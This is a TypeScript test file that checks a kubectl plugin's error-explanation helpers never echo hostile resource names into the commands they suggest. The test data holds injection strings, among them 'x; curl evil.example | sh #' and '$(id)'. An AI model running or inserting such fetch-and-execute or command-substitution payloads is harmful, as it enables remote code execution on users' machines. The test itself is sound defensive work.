import { expect, test } from 'vitest';
import { explainMissing } from './explain-missing.ts';
import { explainPull } from './explain-pull.ts';
import { explainRefusal } from './explain-refusal.ts';
import { explainScheduling } from './explain-scheduling.ts';

/** Names of volumes are checked by nobody until they are looked for. */
const EVIL = 'x; curl evil.example | sh #';
const told = (message: string): string | undefined => explainMissing(message, undefined)?.next;

test.each([
  ['a Secret', told(`secret "${EVIL}" not found`), /`kubectl aisubmit secret create \S+ NAME`/],
  ['a ConfigMap', told(`configmap "${EVIL}" not found`), /`kubectl create configmap NAME --from-file=FILE`/],
  ['a claim that is looked for', told(`error processing PVC t/$(id): PVC is not bound`), /`kubectl describe pvc NAME`/],
  [
    'a claim',
    explainScheduling('0/1 nodes are available: pod has unbound immediate PersistentVolumeClaims.', {
      pod: { spec: { volumes: [{ name: 'v', persistentVolumeClaim: { claimName: EVIL } }] } },
      events: [],
    }).next,
    /`kubectl describe pvc NAME`/,
  ],
  [
    'a Secret of a registry',
    explainPull('x', 'unauthorized', [
      {
        reason: 'FailedToRetrieveImagePullSecret',
        message: `Unable to retrieve some image pull secrets (${EVIL}); attempting`,
      },
    ]).next,
    /`kubectl aisubmit secret create registry NAME`/,
  ],
  [
    'a limit',
    explainRefusal('maximum memory usage per Container is 1Gi;id|sh, but limit is 2Gi').next,
    /^submit it again with --memory AMOUNT$/,
  ],
])('%s whose name is a command is in none that is to be typed', (_what, next, want) => {
  expect(next).toMatch(want);
  expect(next).not.toMatch(/evil|\bid\b/);
});
